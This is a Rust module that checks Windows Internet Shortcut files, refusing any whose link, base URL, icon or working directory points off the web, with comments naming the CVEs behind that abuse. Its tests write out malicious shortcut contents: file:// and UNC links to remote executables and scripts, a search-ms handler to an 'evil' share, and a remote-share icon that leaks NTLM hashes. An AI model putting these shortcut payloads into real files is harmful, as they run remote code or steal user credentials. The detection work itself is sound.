//! Internet Shortcut files (`.url`, `.website`): what they point at, and whether opening or
//! merely showing one would make Windows reach outside the web.
//!
//! A shortcut is a small INI text (`[InternetShortcut]` then `URL=…`, often `IconFile=…`,
//! `WorkingDirectory=…`; Internet Explorer added `[DEFAULT]` `BASEURL=…`). A web shortcut is a
//! link sent as a file. The abused ones point elsewhere: `URL=file://…` or a `\\host\share` path
//! (a remote program started past the download warning, CVE-2023-36025, CVE-2024-21412), another
//! protocol handler (`search-ms:`, `ms-…:`), or an `IconFile` on a remote share, which Explorer
//! fetches to draw the icon and so hands the user's NTLM hash to that host without a click.
//!
//! [`read`] accepts a shortcut only when every place it names is either on the web
//! (`http://`, `https://`) or, for the icon and working directory, a local path; anything it
//! cannot read (too large, no `URL=` in `[InternetShortcut]`) is refused too, so a doubtful file
//! is treated like a blocked one. Cost: one pass over at most [`SIZE_MAX`] bytes. Never follows
//! a target, never resolves a name.

/// Bytes a shortcut may have. Real ones are a few hundred; a larger file could hide a second
/// `URL=` past what is read, so it is refused rather than read in part.
pub const SIZE_MAX: usize = 64 * 1024;

/// Extensions Windows opens as an Internet Shortcut.
pub fn is_shortcut_extension(ext: &str) -> bool {
    ext.eq_ignore_ascii_case("url") || ext.eq_ignore_ascii_case("website")
}

/// The web addresses of a shortcut that is safe to pass on (`URL=` and `BASEURL=`, for the link
/// checks), or why it is not.
pub fn read(data: &[u8]) -> Result<Vec<String>, String> {
    if data.len() > SIZE_MAX {
        return Err(format!("of {} bytes, larger than any real shortcut", data.len()));
    }
    let text = decode(data);
    let mut section = String::new();
    let mut has_url = false;
    let mut web = Vec::new();
    for line in text.split(['\r', '\n']) {
        let line = line.trim_matches(|c: char| c.is_whitespace() || c == '\0');
        if line.starts_with(';') {
            continue;
        }
        if line.starts_with('[') {
            section = line.trim_start_matches('[').trim_end_matches(']').trim().to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = line.split_once('=') else { continue };
        let key = key.trim().to_ascii_lowercase();
        let value = value.trim().trim_matches('"').trim();
        match key.as_str() {
            "url" | "baseurl" => {
                if !is_web(value) {
                    return Err(format!("pointing at {}", shown(value)));
                }
                has_url |= key == "url" && section == "internetshortcut";
                web.push(value.to_string());
            }
            "iconfile" | "workingdirectory" if !value.is_empty() && !is_web(value) && !is_local_path(value) => {
                return Err(format!("whose {key} is {}", shown(value)));
            }
            _ => {}
        }
    }
    if !has_url {
        return Err("without a URL in its [InternetShortcut] section".into());
    }
    Ok(web)
}

/// The text of a shortcut: UTF-16 when it starts with a byte-order mark (Windows reads INI files
/// so), otherwise UTF-8 with anything else replaced.
fn decode(data: &[u8]) -> String {
    let utf16 = |big: bool| {
        let units = data[2..].chunks_exact(2).map(|b| if big { u16::from_be_bytes([b[0], b[1]]) } else { u16::from_le_bytes([b[0], b[1]]) });
        char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
    };
    match data {
        [0xff, 0xfe, ..] => utf16(false),
        [0xfe, 0xff, ..] => utf16(true),
        [0xef, 0xbb, 0xbf, rest @ ..] => String::from_utf8_lossy(rest).into_owned(),
        _ => String::from_utf8_lossy(data).into_owned(),
    }
}

fn is_web(value: &str) -> bool {
    let lower = |n: usize| value.get(..n).map(str::to_ascii_lowercase);
    lower(7).as_deref() == Some("http://") || lower(8).as_deref() == Some("https://")
}

/// A path on this machine: a drive (`C:\…`), an environment variable (`%SystemRoot%\…`) or a
/// relative name. Not a share (`\\host\…`, `//host/…`) and no scheme (`file:`, `search-ms:`).
fn is_local_path(value: &str) -> bool {
    let b = value.as_bytes();
    let drive = b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' && (b.len() == 2 || b[2] == b'\\' || b[2] == b'/');
    let share = value.starts_with("\\\\") || value.starts_with("//") || value.starts_with("\\/") || value.starts_with("/\\");
    let scheme = value.split_once(':').is_some_and(|(s, _)| s.len() >= 2 && s.bytes().all(|c| c.is_ascii_alphanumeric() || b"+-.".contains(&c)));
    drive || !(share || scheme || value.contains(':'))
}

/// A value for a reason: at most 80 characters, control characters shown as `?`.
fn shown(value: &str) -> String {
    let mut s: String = value.chars().take(80).map(|c| if c.is_control() { '?' } else { c }).collect();
    if value.chars().count() > 80 {
        s.push('…');
    }
    format!("\"{s}\"")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_web_shortcut_passes_with_its_links() {
        // As Outlook Express sent one in 2002 (the SpamAssassin corpus has it).
        let s = b"[DEFAULT]\r\nBASEURL=http://www.example.edu/~a/schleslib.html\r\n[InternetShortcut]\r\nURL=http://www.example.edu/~a/schleslib.html\r\nModified=E0824ED43364C201DE\r\n";
        assert_eq!(read(s).unwrap(), vec!["http://www.example.edu/~a/schleslib.html"; 2]);
        let icon = b"[InternetShortcut]\nURL=https://example.com/\nIconFile=%SystemRoot%\\system32\\SHELL32.dll\nIconIndex=13\nWorkingDirectory=C:\\Users\\Public\n";
        assert_eq!(read(icon).unwrap(), vec!["https://example.com/"]);
        let favicon = b"[InternetShortcut]\nURL=https://example.com/\nIconFile=https://example.com/favicon.ico\n";
        assert!(read(favicon).is_ok());
        // UTF-16 with its byte-order mark, as Windows also writes INI files.
        let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain("[InternetShortcut]\r\nURL=https://example.org/a\r\n".encode_utf16().flat_map(u16::to_le_bytes)).collect();
        assert_eq!(read(&wide).unwrap(), vec!["https://example.org/a"]);
    }

    #[test]
    fn shortcuts_that_leave_the_web_are_refused() {
        let refused = |s: &str| read(s.as_bytes()).expect_err(s);
        // The exploited kinds: a program on a share, a file URL, another protocol handler.
        assert!(refused("[InternetShortcut]\nURL=file://198.51.100.7/share/invoice.exe\n").contains("file://"));
        refused("[InternetShortcut]\r\nURL=\\\\198.51.100.7@80\\share\\x.vbs\r\n");
        refused("[InternetShortcut]\nURL=search-ms:query=invoice&crumb=location:\\\\evil\\s\n");
        refused("[InternetShortcut]\nURL=FILE:///C:/Windows/System32/calc.exe\n");
        refused("[InternetShortcut]\nURL=javascript:alert(1)\n");
        refused("[InternetShortcut]\nURL=C:\\Windows\\System32\\cmd.exe\n");
        // A hash leak on display: the icon on a remote share.
        assert!(refused("[InternetShortcut]\nURL=https://example.com/\nIconFile=\\\\203.0.113.9\\icons\\a.ico\nIconIndex=1\n").contains("iconfile"));
        refused("[InternetShortcut]\nURL=https://example.com/\nIconFile=file://203.0.113.9/a.ico\n");
        refused("[InternetShortcut]\nURL=https://example.com/\nWorkingDirectory=//203.0.113.9/w\n");
        // A second, bad URL after a good one; a bad BASEURL elsewhere; quotes and spacing.
        refused("[InternetShortcut]\nURL=https://example.com/\nURL=file://h/x\n");
        refused("[DEFAULT]\nBASEURL=file://h/x\n[InternetShortcut]\nURL=https://example.com/\n");
        refused("[InternetShortcut]\n  url =  \"file://h/x\"  \n");
    }

    #[test]
    fn what_cannot_be_read_is_refused() {
        assert!(read(b"").unwrap_err().contains("without a URL"));
        assert!(read(b"just some text\n").unwrap_err().contains("without a URL"));
        assert!(read(b"[Other]\nURL=https://example.com/\n").unwrap_err().contains("without a URL"));
        assert!(read(b"MZ\x90\x00\x03").is_err());
        let mut padded = b"[InternetShortcut]\nURL=https://example.com/\n".to_vec();
        padded.resize(SIZE_MAX + 1, b' ');
        assert!(read(&padded).unwrap_err().contains("larger"));
        // Odd UTF-16 and broken UTF-8 do not panic.
        assert!(read(&[0xff, 0xfe, b'[', 0, 0xd8]).is_err());
        assert!(read(b"[InternetShortcut]\nURL=https://ex\xffample.com/\n").is_ok());
        // A comment line is not a key.
        assert!(read(b"[InternetShortcut]\n;URL=file://h/x\nURL=https://example.com/\n").is_ok());
    }

    #[test]
    fn extensions() {
        assert!(is_shortcut_extension("url") && is_shortcut_extension("URL") && is_shortcut_extension("website"));
        assert!(!is_shortcut_extension("lnk") && !is_shortcut_extension("urls"));
    }
}
